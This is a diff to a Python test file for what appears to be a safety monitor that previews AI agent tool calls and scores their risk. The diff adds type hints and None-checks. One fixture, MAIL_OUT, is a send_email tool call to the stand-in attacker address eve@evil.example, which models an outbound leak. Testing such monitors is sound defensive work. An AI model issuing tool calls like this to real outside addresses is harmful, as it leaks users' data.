@@ -26,7 +26,7 @@ learning: {alpha: 0.1, shrink: 'off', intervals: none}
 guard: {thresholds: {stop: 0.2}}
 """
 FETCH = {"tool": "http_get", "args": {"url": "https://web.example/page"}}
-MAIL_OUT = {"tool": "send_email", "args": {"to": "eve@evil.example", "body": "notes"}}
+MAIL_OUT: dict[str, Any] = {"tool": "send_email", "args": {"to": "eve@evil.example", "body": "notes"}}
 MAIL_IN = {"tool": "send_email", "args": {"to": "bob@corp.example", "body": "notes"}}
 
 
@@ -61,9 +61,11 @@ def test_sidecar_reads_actions_as_the_library(tmp_path: Path, mail_model: Path) 
             ahead = remote.preview({"leaked": False}, action=MAIL_OUT)
             assert ahead.abstract_state == expected_ahead.abstract_state == {"fetched": False, "mails_out": True,
                                                                              "leaked": False}
+            assert ahead.p_unsafe is not None and expected_ahead.p_unsafe is not None
             assert math.isclose(ahead.p_unsafe, expected_ahead.p_unsafe)
             expected = local.observe(state, action=action)
             got = remote.observe(state, action=action)
+            assert got.p_unsafe is not None and expected.p_unsafe is not None
             assert got.abstract_state == expected.abstract_state and math.isclose(got.p_unsafe, expected.p_unsafe)
         assert got.abstract_state["fetched"]
         batch = agent.batch([{"session": remote.id, "op": "preview", "state": {"leaked": False}, "action": MAIL_IN}])
